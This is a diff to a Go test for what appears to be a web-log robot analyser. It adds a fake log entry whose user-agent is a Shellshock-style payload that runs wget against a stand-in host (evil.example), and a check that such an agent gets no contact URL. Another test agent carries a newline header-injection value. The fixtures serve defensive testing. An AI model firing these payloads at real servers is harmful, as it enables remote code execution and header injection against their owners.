@@ -11,6 +11,7 @@ import (
 func TestAbout(t *testing.T) {
 	notes, _ := roster.Parse([]byte("robot-id: helper\nrobot-class: user-triggered\nrobot-owner-name: H\n\nrobot-id: noted\nrobot-owner-name:\nrobot-notes: n\n"))
 	var w logWriter
+	w.at(5, "192.0.2.3", "Exploit () { :;};/bin/sh -c 'wget http://evil.example/x.tar'", "/cgi-bin/a", 404, 1)
 	for _, agent := range []string{"Helper/1", "Noted/1 (+mailto:a@b.example\\x0aBcc:z)", "Other/1 (see http://o.example/bot, please)", "Googlebot/2.1"} {
 		for i := range 3 {
 			w.at(float64(i), "192.0.2.1", agent, "/", 200, 1)
@@ -30,6 +31,9 @@ func TestAbout(t *testing.T) {
 	}
 	if !google.Known || google.About.Owner != "Google" || google.Reach() != "http://www.google.com/bot.html" {
 		t.Errorf("what is known of Googlebot: %+v", google.About)
+	}
+	if got := find(t, r.Robots, "Exploit").Reach(); got != "" {
+		t.Errorf("who sends code is reached at %q", got)
 	}
 	google.Claimed = "http://claimed.example/"
 	if got := google.Reach(); got != "http://claimed.example/" {
